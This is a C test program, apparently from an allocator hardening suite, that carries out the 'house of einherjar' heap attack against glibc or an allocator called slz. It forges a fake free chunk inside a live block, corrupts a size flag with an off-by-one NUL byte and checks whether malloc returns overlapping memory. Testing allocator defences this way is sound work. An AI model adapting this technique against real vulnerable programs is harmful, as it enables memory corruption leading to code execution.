/* einherjar: the house of einherjar. An off-by-one NUL byte clears the
 * "previous chunk in use" flag of the next chunk, and a fake previous size
 * makes its free merge backwards into a fake free chunk inside a live block.
 *
 * Goal: a later malloc returns memory overlapping the live block A.
 *
 * A (248 bytes) is followed by B (1264 bytes, a 1280-byte chunk) and a
 * guard. Inside A, 16 bytes in, the attacker builds a free chunk reaching up
 * to B's chunk: header (size, and for slz a check word copied from A's
 * header) and links pointing at itself; the size again where the allocator
 * reads the size of the chunk below B (glibc: the word before B's size;
 * slz: the foot, the last word before B's header). Then the off-by-one: a
 * NUL byte written one past A's usable size, into the low byte of B's size
 * word (B's size is a multiple of 256, so only flags are lost). Then
 * free(B) and malloc(256).
 *   einherjar       (no arguments)
 */
#include "attacks.h"

int main(void)
{
    char *a = opaque(malloc(248)), *b = opaque(malloc(1264)), *guard = opaque(malloc(40));
    enum atk_layout l = need_layout(a, b);
    uintptr_t *fake = (uintptr_t *)(a + 16);
    uintptr_t fsize = (uintptr_t)(chunk_of(b) - (char *)fake);
    uintptr_t *hb = size_word(b, l);
    if (l == LAYOUT_GLIBC) {
        fake[0] = 0;
        fake[1] = fsize | 1;
    } else {
        fake[0] = fsize | (*size_word(a, l) & 2);
        fake[1] = ((uintptr_t *)a)[-1];
    }
    fake[2] = fake[3] = fake[4] = (uintptr_t)fake;
    hb[-1] = fsize; /* glibc: B's prev_size; slz: the fake's foot */
    a[malloc_usable_size(a)] = 0; /* the off-by-one */
    free(b);
    char *d = opaque(malloc(256));
    if (d && overlap(d, 256, a, 248))
        reached("malloc(256) returned %p, overlapping the live block A at %p", (void *)d, (void *)a);
    opaque(guard);
    not_reached("malloc(256) returned %p, clear of A at %p", (void *)d, (void *)a);
}
